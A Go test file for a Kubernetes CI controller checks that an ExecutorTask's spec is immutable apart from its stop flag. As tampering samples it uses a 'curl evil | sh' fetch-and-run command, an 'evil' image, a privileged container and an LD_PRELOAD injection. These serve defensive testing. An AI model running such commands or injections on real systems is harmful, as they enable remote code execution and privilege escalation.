package controllers_test

import (
	"context"
	"strings"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	rsv1 "runservice.dev/runservice/api/v1alpha1"
)

// TestExecutorTaskSpecIsImmutable: an executor runs what was scheduled. Whoever may update an
// ExecutorTask (the manager, a namespace admin) can set stop, and nothing else of the spec: not the
// task's steps or image, not the environment, the workspaces it restores (its own run's or, for a
// restart, the restarted run's it kept) or the run uid its store keys carry.
func TestExecutorTaskSpecIsImmutable(t *testing.T) {
	ns := newNamespace(t)
	ctx := context.Background()
	base := &rsv1.ExecutorTask{
		ObjectMeta: metav1.ObjectMeta{Name: "r-build", Namespace: ns},
		Spec: rsv1.ExecutorTaskSpec{
			RunName: "r", RunUID: "11111111-1111-1111-1111-111111111111", TaskName: "build", Executor: "nowhere", ExecutorUID: "00000000-0000-0000-0000-000000000000",
			Task:             task("build"),
			Environment:      []rsv1.EnvVar{{Name: "CI", Value: "true"}},
			WorkspaceSources: []string{"r-checkout", "o-lint"},
			KeptSources: []rsv1.KeptWorkspaceSource{{ExecutorTask: "o-lint", Archives: []int32{1},
				Run: rsv1.RunReference{Name: "o", UID: "44444444-4444-4444-4444-444444444444"}}},
		},
	}
	if err := k8s.Create(ctx, base); err != nil {
		t.Fatalf("creating executor task: %v", err)
	}
	cases := []struct {
		name   string
		change func(*rsv1.ExecutorTaskSpec)
	}{
		{"change a step's command", func(s *rsv1.ExecutorTaskSpec) { s.Task.Steps[0].Run.Command = "curl evil | sh" }},
		{"change the image", func(s *rsv1.ExecutorTaskSpec) { s.Task.Containers[0].Image = "evil:latest" }},
		{"make a container privileged", func(s *rsv1.ExecutorTaskSpec) { s.Task.Containers[0].Privileged = ptr.To(true) }},
		{"change the environment", func(s *rsv1.ExecutorTaskSpec) { s.Environment[0].Value = "false" }},
		{"add to the environment", func(s *rsv1.ExecutorTaskSpec) {
			s.Environment = append(s.Environment, rsv1.EnvVar{Name: "LD_PRELOAD", Value: "/x.so"})
		}},
		{"remove the environment", func(s *rsv1.ExecutorTaskSpec) { s.Environment = nil }},
		{"change the workspace sources", func(s *rsv1.ExecutorTaskSpec) { s.WorkspaceSources = []string{"other-run-secret"} }},
		{"remove the workspace sources", func(s *rsv1.ExecutorTaskSpec) { s.WorkspaceSources = nil }},
		{"move it to another executor", func(s *rsv1.ExecutorTaskSpec) { s.Executor = "elsewhere" }},
		// The run uid says where its logs and archives are kept, and whose workspaces it restores.
		{"move it to another run's keys", func(s *rsv1.ExecutorTaskSpec) { s.RunUID = "22222222-2222-2222-2222-222222222222" }},
		{"remove the run uid", func(s *rsv1.ExecutorTaskSpec) { s.RunUID = "" }},
		// Kept sources say whose archives a restart's task restores.
		{"point a kept source at another run", func(s *rsv1.ExecutorTaskSpec) {
			s.KeptSources[0].Run = rsv1.RunReference{Name: "other", UID: "33333333-3333-3333-3333-333333333333"}
		}},
		{"remove the kept sources", func(s *rsv1.ExecutorTaskSpec) { s.KeptSources = nil }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			et := &rsv1.ExecutorTask{}
			if err := k8s.Get(ctx, client.ObjectKeyFromObject(base), et); err != nil {
				t.Fatal(err)
			}
			tc.change(&et.Spec)
			err := k8s.Update(ctx, et)
			if err == nil {
				t.Fatalf("update succeeded, want it refused")
			}
			if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "only stop can change") {
				t.Fatalf("error %v, want Invalid saying only stop can change", err)
			}
		})
	}
	t.Run("stop may be set", func(t *testing.T) {
		et := &rsv1.ExecutorTask{}
		if err := k8s.Get(ctx, client.ObjectKeyFromObject(base), et); err != nil {
			t.Fatal(err)
		}
		et.Spec.Stop = true
		if err := k8s.Update(ctx, et); err != nil {
			t.Fatalf("setting stop: %v", err)
		}
	})
}
